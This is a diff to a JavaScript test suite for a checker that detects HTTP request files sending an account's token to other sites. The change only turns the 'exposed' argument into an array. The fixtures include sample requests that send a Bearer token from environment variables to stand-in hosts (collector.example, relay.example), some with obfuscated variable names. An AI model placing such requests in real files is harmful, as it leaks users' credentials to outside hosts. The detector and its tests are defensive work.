@@ -145,7 +145,7 @@ describe('requests that would send an account\'s token to another site', () => {
 	it('the token the environment holds counts for the account it belongs to, only when it is exposed', async () => {
 		const text = '### a\nGET https://collector.example/\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN}}\n\n### b\nGET https://relay.example/\nAuthorization: Bearer {{$dotenv TELEMATICS_TOKEN}}\n\n### c\nGET https://user.telematicssdk.com/\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n';
 		assert.deepEqual(await foreignSends(text, accounts), []);
-		assert.deepEqual((await foreignSends(text, accounts, { name: 'TELEMATICS_TOKEN', accountId: 'a1' })).map((s) => s.host), ['collector.example', 'relay.example']);
+		assert.deepEqual((await foreignSends(text, accounts, [{ name: 'TELEMATICS_TOKEN', accountId: 'a1' }])).map((s) => s.host), ['collector.example', 'relay.example']);
 	});
 
 	it('follows the token through definitions the parser skips (issue 34): an odd name, a definition in a body', () => {
@@ -164,7 +164,7 @@ describe('requests that would send an account\'s token to another site', () => {
 	});
 
 	it('the exposed token through a name the file does not say (issue 34): REST Client\'s %name, httpYac\'s process.env[…]', async () => {
-		const exposed = { name: 'TELEMATICS_TOKEN', accountId: 'a1' };
+		const exposed = [{ name: 'TELEMATICS_TOKEN', accountId: 'a1' }];
 		const text = [
 			'### a', 'GET https://collector.example/', 'Authorization: Bearer {{$processEnv %tokenName}}', '',
 			'### b', 'GET https://relay.example/', "Authorization: Bearer {{ process.env['TELEMATICS' + '_TOKEN'] }}", '',
